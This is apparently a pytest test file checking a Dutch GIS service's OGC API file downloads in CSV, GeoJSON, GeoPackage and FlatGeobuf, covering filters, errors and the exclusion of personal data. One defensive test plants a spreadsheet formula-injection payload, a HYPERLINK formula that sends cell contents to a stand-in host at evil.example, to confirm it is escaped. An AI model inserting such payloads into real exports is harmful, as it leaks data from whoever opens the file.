"""Downloads of a collection as a file (ogc/downloads.py): CSV, GeoJSON, GeoPackage and FlatGeobuf, also filtered."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pyogrio
import pytest
import shapely

from gis_service.accounts.models import User
from gis_service.locations.models import Location
from tests.ogc.conftest import Feed, OgcClient, add_workflow

pytestmark = pytest.mark.django_db
ITEMS = "/collections/locations/items"
RD = "http://www.opengis.net/def/crs/EPSG/0/28992"
IN_BOX = {"Binnentuin 0", "Binnentuin 1", "Binnentuin 2"}
FILES = {"gpkg": "application/geopackage+sqlite3", "fgb": "application/flatgeobuf"}


def download(ogc: OgcClient, path: str, params: dict[str, Any], accept: str = "application/json") -> Any:
    response = ogc.client.get(f"/ogc{path}", params, headers={"Accept": accept})
    assert response.status_code == 200, b"".join(response.streaming_content)[:500] if response.streaming else response
    return response


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def read_file(response: Any, tmp_path: Path, extension: str) -> Any:
    path = tmp_path / f"download.{extension}"
    path.write_bytes(body(response))
    frame = pyogrio.read_dataframe(path, fid_as_index=True)
    if "id" not in frame:  # a GeoPackage's FID is the feature's id
        frame["id"] = frame.index
    return frame


def csv_rows(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body(response).decode())))


def stored() -> dict[int, Any]:
    return {loc.pk: shapely.from_wkb(bytes(loc.geometry.wkb)) for loc in Location.objects.current()}


def same_shapes(served: dict[int, Any], expected: dict[int, Any]) -> None:
    assert set(served) == set(expected)
    for pk, geometry in expected.items():
        assert shapely.hausdorff_distance(served[pk], geometry) < 0.001, pk  # every vertex within a millimetre
        assert shapely.get_num_coordinates(served[pk]) == shapely.get_num_coordinates(geometry), pk


def test_csv_has_the_id_and_the_geometry_as_wkt_and_every_public_property(ogc: OgcClient, feed: Feed) -> None:
    response = download(ogc, ITEMS, {"f": "csv", "crs": RD})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="locations.csv"'
    rows = csv_rows(response)
    assert list(rows[0]) == ["id", "wkt", *public_fields(ogc)]
    same_shapes({int(r["id"]): shapely.from_wkt(r["wkt"]) for r in rows}, stored())
    first = next(r for r in rows if int(r["id"]) == feed.locations_a[0].pk)
    assert first["name"] == "Plantsoen 00" and first["status"] == "in beheer" and first["owner"] == "Gemeente Aadorp"


def public_fields(ogc: OgcClient) -> list[str]:
    return [
        name
        for name in ogc.json("/collections/locations/queryables", {"f": "json"})["properties"]
        if name != "geometry"
    ]


@pytest.mark.parametrize("extension", ["gpkg", "fgb"])
def test_geopackage_and_flatgeobuf_hold_every_feature_with_its_geometry_to_the_millimetre(
    ogc: OgcClient, feed: Feed, tmp_path: Path, extension: str
) -> None:
    response = download(ogc, ITEMS, {"f": extension, "crs": RD})
    assert response["Content-Type"] == FILES[extension]
    frame = read_file(response, tmp_path, extension)
    same_shapes(dict(zip(frame["id"], frame.geometry, strict=True)), stored())
    info = pyogrio.read_info(tmp_path / f"download.{extension}")
    assert info["geometry_type"] == "MultiPolygon"
    assert pyogrio.read_info(tmp_path / f"download.{extension}")["crs"] == "EPSG:28992"
    assert set(frame.columns) >= {"name", "type", "status", "owner", "area_m2", "external_id", "url", "updated"}


def test_geojson_download_is_one_feature_collection_of_everything(ogc: OgcClient, feed: Feed) -> None:
    response = download(ogc, ITEMS, {"f": "geojson", "limit": 1000})
    document = json.loads(body(response))
    assert response["Content-Type"] == "application/geo+json"
    assert {f["id"] for f in document["features"]} == {loc.pk for loc in feed.current}
    page = ogc.json(ITEMS, {"f": "json", "limit": 1000})  # the same features as the pages give
    assert sorted(document["features"], key=lambda f: f["id"]) == sorted(page["features"], key=lambda f: f["id"])


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [("text/csv", "text/csv; charset=utf-8"), *((media, media) for media in FILES.values())],
)
def test_accept_chooses_the_download(ogc: OgcClient, feed: Feed, accept: str, media_type: str) -> None:
    """`Accept: text/csv` answered 500 once; now it is the CSV download, as `f=csv`."""
    assert download(ogc, ITEMS, {}, accept=accept)["Content-Type"] == media_type


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"filter": "type = 'haag'"}, lambda loc: loc.type == "haag"),
        ({"type": "binnentuin"}, lambda loc: loc.type == "binnentuin"),
        ({"bbox": "149990,479990,150120,480030", "bbox-crs": RD}, lambda loc: loc.name in IN_BOX),
        ({"filter": "S_INTERSECTS(geometry,BBOX(149990,479990,150120,480030))", "filter-crs": RD, "type": "binnentuin"},
         lambda loc: loc.name in IN_BOX),
        ({"datetime": "../2000-01-01T00:00:00Z"}, lambda loc: False),
        ({"datetime": "2000-01-01T00:00:00Z/.."}, lambda loc: True),
        ({"filter": "owner = 'Gemeente Aadorp' AND area_m2 > 500"},
         lambda loc: loc.owner.name == "Gemeente Aadorp" and loc.area_m2 > 500),
    ],
)  # fmt: skip
@pytest.mark.parametrize("extension", ["csv", "gpkg", "fgb", "geojson"])
def test_a_filtered_download_holds_what_the_filtered_pages_hold(
    ogc: OgcClient, feed: Feed, tmp_path: Path, params: dict[str, str], expected: Any, extension: str
) -> None:
    wanted = {loc.pk for loc in feed.current if expected(loc)}
    pages = ogc.json(ITEMS, {**params, "f": "json", "limit": 1000})
    assert {f["id"] for f in pages["features"]} == wanted
    response = download(ogc, ITEMS, {**params, "f": extension})
    if extension == "csv":
        ids = {int(row["id"]) for row in csv_rows(response)}
    elif extension == "geojson":
        ids = {f["id"] for f in json.loads(body(response))["features"]}
    else:
        ids = set(read_file(response, tmp_path, extension)["id"]) if wanted else set()
    assert ids == wanted


def test_properties_sortby_and_limit_shape_the_file(ogc: OgcClient, feed: Feed) -> None:
    rows = csv_rows(download(ogc, ITEMS, {"f": "csv", "properties": "name,area_m2", "sortby": "-area_m2", "limit": 3}))
    assert list(rows[0]) == ["id", "wkt", "name", "area_m2"]
    largest = sorted(feed.current, key=lambda loc: -loc.area_m2)[:3]
    assert [row["name"] for row in rows] == [loc.name for loc in largest]


def test_spreadsheet_formulas_stay_text_in_the_csv(ogc: OgcClient, feed: Feed) -> None:
    """Names, types and external ids come from municipal files and remote services: opened in Excel, a cell
    starting with = + - @ would be a formula (HYPERLINK leaks data, DDE runs commands)."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    feed.locations_b[0].name = formula
    feed.locations_b[0].type = "@SUM(1)"
    feed.locations_b[0].external_id = "-2+3"
    feed.locations_b[0].save()
    rows = {int(r["id"]): r for r in csv_rows(download(ogc, ITEMS, {"f": "csv"}))}
    row = rows[feed.locations_b[0].pk]
    assert (row["name"], row["type"], row["external_id"]) == ("'" + formula, "'@SUM(1)", "'-2+3")
    assert row["area_m2"] == "400.0"  # numbers stay numbers


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"f": "mvt"}, "vectortiles"),
        ({"f": "gpkg", "offset": "10"}, "offset"),
        ({"f": "csv", "cursor": "abc"}, "cursor"),
        ({"f": "fgb", "properties": "name,phone"}, "phone"),
        ({"f": "csv", "sortby": "source_hash"}, "source_hash"),
        ({"f": "csv", "limit": "0"}, "limit"),
        ({"f": "gpkg", "filter": "type = "}, "onleesbaar"),
        ({"f": "gpkg", "filter": "area_m2 / 0 > 1"}, "De database weigert"),  # PostgreSQL refuses it
        ({"f": "csv", "crs": "http://www.opengis.net/def/crs/EPSG/0/2154"}, "crs"),
        ({"f": "csv", "datetime": "gisteren"}, "datetime"),
    ],
)
def test_what_a_download_cannot_answer_is_a_400_with_a_message(
    ogc: OgcClient, feed: Feed, params: dict[str, str], message: str
) -> None:
    response = ogc.get(ITEMS, params)
    assert response.status_code == 400, response
    assert message in json.loads(response.content)["description"]


def test_an_empty_collection_downloads_as_an_empty_layer_of_its_geometry_type(ogc: OgcClient, tmp_path: Path) -> None:
    for extension in FILES:
        response = download(ogc, "/collections/initiatives/items", {"f": extension})
        path = tmp_path / f"empty.{extension}"
        path.write_bytes(body(response))
        info = pyogrio.read_info(path, force_feature_count=True)
        assert (info["features"], info["geometry_type"]) == (0, "MultiPolygon"), extension
    rows = body(download(ogc, "/collections/initiatives/items", {"f": "csv"})).decode().splitlines()
    assert rows == ["id,wkt,status,description,date,area_m2,location_id"]


def test_no_personal_data_in_any_download(ogc: OgcClient, feed: Feed, tmp_path: Path) -> None:
    resident = User.objects.create_user(
        username="zwanette", first_name="Zwanette", last_name="Quirijnsma",
        email="zwanette.q@geheim.example", phone="0699887766",
    )  # fmt: skip
    add_workflow(feed, resident)
    location = feed.locations_a[0]
    location.attributes = {"beheerder": "Zwanette Quirijnsma", "telefoon": "0699887766"}
    location.save()
    texts = []
    for collection in ("locations", "contracts", "initiatives"):
        for extension in ("csv", "geojson"):
            texts.append(body(download(ogc, f"/collections/{collection}/items", {"f": extension})).decode())
        for extension in FILES:
            frame = read_file(download(ogc, f"/collections/{collection}/items", {"f": extension}), tmp_path, extension)
            texts.append(frame.drop(columns="geometry").to_csv())
    text = "\n".join(texts)
    assert "Groep Plantsoen 00" in text and "Moestuin" in text  # the downloads reached the workflow
    for secret in ("Zwanette", "Quirijnsma", "geheim.example", "0699887766"):
        assert secret not in text


def test_the_collection_page_links_its_downloads(ogc: OgcClient) -> None:
    links = ogc.json("/collections/locations", {"f": "json"})["links"]
    files = {link["type"]: link["href"] for link in links if link["rel"] == "items"}
    assert files["application/geopackage+sqlite3"].endswith("/ogc/collections/locations/items?f=gpkg")
    assert files["application/flatgeobuf"].endswith("/ogc/collections/locations/items?f=fgb")
    assert files["text/csv"].endswith("/ogc/collections/locations/items?f=csv")
    # GDAL pages through the first `items` link of type GeoJSON: that stays the plain items
    assert files["application/geo+json"].endswith("/ogc/collections/locations/items")
    html = ogc.get("/collections/locations", {"f": "html"}).content.decode()
    assert "items?f=gpkg" in html


# --- real clients against a live server (slow) ------------------------------------------------


@pytest.fixture
def live_locations(transactional_db: None, live_server: Any) -> str:
    from gis_service.owners.models import Owner
    from tests.ogc.conftest import make_feed

    owner_a = Owner.objects.create(name="Gemeente Aadorp", slug="aadorp", kind=Owner.Kind.GEMEENTE)
    owner_b = Owner.objects.create(name="Woonstichting Bebouw", slug="bebouw", kind=Owner.Kind.WONINGCORPORATIE)
    make_feed(owner_a, owner_b)
    return f"{live_server.url}/ogc/collections/locations/items"


@pytest.mark.slow
@pytest.mark.parametrize("extension", ["csv", "geojson", "gpkg", "fgb"])
def test_ogr2ogr_reads_each_download_back_with_the_same_features_and_geometries(
    live_locations: str, tmp_path: Path, extension: str
) -> None:
    """Debian's GDAL 3.6 (what municipal GIS teams run) converts the download, in CRS84 as served by
    default, to a GeoPackage in RD: every feature, every vertex within a millimetre of what is stored."""
    import subprocess
    import urllib.request

    source = tmp_path / f"locations.{extension}"
    with urllib.request.urlopen(f"{live_locations}?f={extension}", timeout=60) as response:  # noqa: S310
        source.write_bytes(response.read())
    target = tmp_path / "back.gpkg"
    options = {
        "csv": ["-oo", "AUTODETECT_TYPE=YES", "-s_srs", "OGC:CRS84"],  # WKT in a CSV names no CRS
        "geojson": ["-preserve_fid"],  # GDAL reads the feature's id as its FID
        "gpkg": ["-preserve_fid"],
    }.get(extension, [])
    command = ["ogr2ogr", "-f", "GPKG", str(target), str(source), *options, "-t_srs", "EPSG:28992", "-nln", "back"]
    result = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    frame = pyogrio.read_dataframe(target, fid_as_index=True)
    ids = frame.index if extension in {"gpkg", "geojson"} else frame["id"]  # FIDs: the GeoPackage's and GeoJSON's ids
    same_shapes(dict(zip((int(i) for i in ids), frame.geometry, strict=True)), stored())


def test_the_openapi_document_offers_the_download_formats_on_items(ogc: OgcClient) -> None:
    document = ogc.json("/openapi", {"f": "json"})
    for collection in ("locations", "contracts", "initiatives"):
        parameters = document["paths"][f"/collections/{collection}/items"]["get"]["parameters"]
        f = next(p for p in parameters if p.get("name") == "f")
        assert {"csv", "geojson", "gpkg", "fgb"} <= set(f["schema"]["enum"])
